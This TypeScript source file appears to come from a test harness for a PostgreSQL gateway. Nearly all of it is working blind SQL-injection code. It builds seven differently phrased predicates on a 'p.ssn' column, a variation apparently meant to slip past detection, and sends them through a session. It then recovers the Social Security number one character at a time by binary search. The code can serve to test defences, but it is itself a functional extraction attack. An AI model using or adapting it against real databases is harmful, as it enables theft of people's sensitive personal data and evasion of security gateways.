import type { Answer, Session } from './session.js';
import { query } from './send.js';

/** A question with places for what is asked of the value. */
export type Question = string;

export interface Attack {
  readonly session: Session;
  readonly questions: readonly [Question, ...Question[]];
  /** A number from 0 to 1, the same ones in every run. */
  readonly random: () => number;
  readonly most: number;
}

export interface Loot {
  /** As much of the value as it knows, from the first letter on. */
  readonly value: string;
  readonly asked: number;
  /** Questions of which no two answers differed. */
  readonly silent: readonly Question[];
}

/** What is asked of letter `at`: whether its code is less than `than`. The same said in several ways. */
type Predicate = (at: number, than: number) => string;

const code = (at: number): string => `ascii(substr(p.ssn, ${at}, 1))`;
const predicates: readonly [Predicate, ...Predicate[]] = [
  (at, than) => `(${code(at)} < ${than})`,
  (at, than) => `(not ${code(at)} >= ${than})`,
  (at, than) => `(${code(at)} between 0 and ${than - 1})`,
  (at, than) => `(get_byte(convert_to(rpad(p.ssn, 20), 'UTF8'), ${at - 1}) < ${than})`,
  (at, than) => `(ascii(split_part(overlay(p.ssn placing ',' from ${at} for 0), ',', 2)) < ${than})`,
  (at, than) => `(ascii(right(p.ssn, 1 - ${at})) < ${than} and ${at} > 1 or ${at} = 1 and ascii(p.ssn) < ${than})`,
  (at, than) => `(('x' || md5(p.ssn)) is not null and ascii(to_jsonb(p) ->> 'ssn') * 0 + ${code(at)} < ${than})`,
];

const codes = { least: 32, most: 127 } as const;
const longest = 14;

/** How a question is sent. */
type Wrap = (text: string) => string;
const wrappings: readonly [Wrap, ...Wrap[]] = [(text) => text, (text) => `copy (${text}) to stdout`];

/** Asks, compares answers, and follows every question whose answers differ. It knows the schema, and no value. */
export async function attack({ session, questions, random, most }: Attack): Promise<Loot> {
  let asked = 0;
  const pick = <T>(of: readonly [T, ...T[]]): T => of[Math.floor(random() * of.length)] ?? of[0];
  /** Answers to one question, said and sent in one way, can be compared. */
  const choose = (question: Question) => {
    const [predicate, wrap] = [pick(predicates), pick(wrappings)];
    const name = [predicates.indexOf(predicate), wrappings.indexOf(wrap), question].join(' ');
    const ask = async (at: number, than: number): Promise<string> => {
      asked += 1;
      const text = question
        .replaceAll('$p', () => predicate(at, than))
        .replaceAll('$v', () => code(at))
        .replaceAll('$k', String(than));
      return told((await session.ask(query(wrap(text)))).messages);
    };
    return { name, ask };
  };
  const silent = new Set(questions);
  let value = '';
  for (const question of questions) {
    const { ask } = choose(question);
    const known = { yes: await ask(1, codes.most + 1), no: await ask(1, 1) };
    if (known.yes === known.no) continue;
    silent.delete(question);
    if (value === '') value = await bisect(ask, known);
  }
  // A gateway might see that those two have one answer: any two answers to one question may differ.
  const answers = new Map<string, string>();
  while (value === '' && asked < most) {
    const question = pick(questions);
    const { name, ask } = choose(question);
    const than = codes.least + Math.floor(random() * (codes.most - codes.least));
    const answer = await ask(1 + Math.floor(random() * longest), than);
    if ((answers.get(name) ?? answer) !== answer) silent.delete(question);
    answers.set(name, answer);
  }
  return { value, asked, silent: [...silent] };
}

/** Letter by letter, halving what it may be; a letter of which it hears neither answer ends the value. */
async function bisect(
  ask: (at: number, than: number) => Promise<string>,
  known: { readonly yes: string; readonly no: string },
): Promise<string> {
  let value = '';
  for (let at = 1; at <= longest; at += 1) {
    let [from, to]: [number, number] = [codes.least, codes.most];
    while (from < to) {
      const middle = Math.ceil((from + to) / 2);
      const answer = await ask(at, middle);
      if (answer === known.yes) to = middle - 1;
      else if (answer === known.no) from = middle;
      else return value;
    }
    value += String.fromCharCode(from);
  }
  return value;
}

/** Everything that an attacker sees, but for where in the text an error is. */
const told = (messages: Answer['messages']): string =>
  messages
    .map((message) => {
      switch (message.type) {
        case 'row':
          return message.values.map((cell) => (cell === null ? 'NULL' : Buffer.from(cell).toString())).join('|');
        case 'error':
        case 'notice':
          return [...message.fields].filter(([field]) => field !== 'P').join(' ');
        case 'complete':
          return message.tag;
        case 'copyData':
          return Buffer.from(message.data).toString();
        case 'description':
          return message.columns.map(({ name, type }) => `${name} ${type}`).join('|');
        case 'parameter':
          return `${message.name}=${message.value}`;
        case 'ready':
          return message.transaction;
        case 'other':
          return message.letter;
      }
    })
    .join('\n');
